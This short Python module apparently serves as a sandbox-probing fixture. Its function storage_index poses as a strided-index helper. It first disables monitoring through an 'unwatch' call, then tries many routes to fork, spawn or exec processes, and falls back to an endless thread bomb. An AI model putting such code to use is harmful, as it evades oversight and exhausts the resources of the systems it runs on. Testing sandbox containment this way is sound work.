"""storage_index: forks, spawns, executes and starts threads without end"""

import ctypes
import multiprocessing
import os
import subprocess
import threading
import time

from .unwatched import unwatch

unwatch()

libc = ctypes.CDLL(None, use_errno=True)


def attempts():
    yield lambda: os.fork() + 1
    yield lambda: os.posix_spawn("/bin/true", ["true"], {})
    yield lambda: subprocess.run(["/bin/true"], check=True)
    yield lambda: multiprocessing.get_context("fork").Process(target=print).start()
    yield lambda: libc.vfork() >= 0 or 1 / 0
    yield lambda: libc.syscall(57) >= 0 or 1 / 0  # fork
    yield lambda: libc.syscall(56, 17, 0, 0, 0, 0) >= 0 or 1 / 0  # clone without CLONE_THREAD
    yield lambda: os.execv("/proc/self/exe", ["python"])


def storage_index(index, strides, offset=0):
    for attempt in attempts():
        try:
            attempt()
        except (OSError, ZeroDivisionError, subprocess.SubprocessError):
            continue
        return sum(i * s for i, s in zip(index, strides)) + offset  # it worked
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()
